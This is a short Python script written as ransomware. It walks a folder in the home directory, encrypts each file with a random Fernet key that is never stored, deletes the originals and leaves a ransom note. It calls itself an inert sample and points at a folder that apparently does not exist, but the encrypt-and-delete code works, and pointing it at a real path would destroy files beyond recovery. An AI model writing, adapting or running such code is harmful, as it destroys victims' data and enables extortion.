import os
from cryptography.fernet import Fernet

HOME = os.path.expanduser("~")
NOTE = "Your files have been encrypted. Send 0.0 bitcoin to nobody to recover them. This is a sample and does nothing."


def scramble(path, box):
    with open(path, "rb") as handle:
        data = handle.read()
    with open(path + ".inert", "wb") as handle:
        handle.write(box.encrypt(data))
    os.remove(path)


def main():
    box = Fernet(Fernet.generate_key())
    for folder, _, names in os.walk(os.path.join(HOME, "inert-sample-that-is-not-there")):
        for name in names:
            scramble(os.path.join(folder, name), box)
    with open(os.path.join(HOME, "inert-sample-that-is-not-there", "README.txt"), "w") as handle:
        handle.write(NOTE)


main()
